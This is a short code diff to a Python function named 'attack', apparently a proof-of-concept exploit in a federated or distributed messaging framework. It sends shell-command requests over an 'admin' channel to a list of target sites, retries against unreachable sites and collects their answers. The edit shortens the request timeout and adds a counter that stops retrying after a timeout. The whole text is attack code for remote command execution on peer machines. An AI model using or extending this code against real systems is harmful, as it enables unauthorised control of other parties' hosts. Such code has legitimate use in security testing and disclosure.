@@ -41,13 +41,15 @@ def attack(cell: Any) -> None:
         note(target="", topic="control", code="", answer=str(own.body))
         for target in TARGETS:
             for asked in QUESTIONS:
+                silent = 0
                 for _ in range(120):  # a site that was cut off a moment ago comes back
                     request = new_cell_message({}, Message(topic=SysCommandTopic.SHELL, body=asked))
                     reply = cell.send_request(
-                        target=target, channel="admin", topic=SysCommandTopic.SHELL, request=request, timeout=15.0
+                        target=target, channel="admin", topic=SysCommandTopic.SHELL, request=request, timeout=3.0
                     )
                     code = str(reply.get_header(MessageHeaderKey.RETURN_CODE))
-                    if code not in ("target_unreachable", "comm_error", "timeout"):
+                    silent += code == "timeout"
+                    if code not in ("target_unreachable", "comm_error", "timeout") or silent:
                         break
                     time.sleep(0.5)
                 answer = getattr(reply.payload, "body", reply.payload)
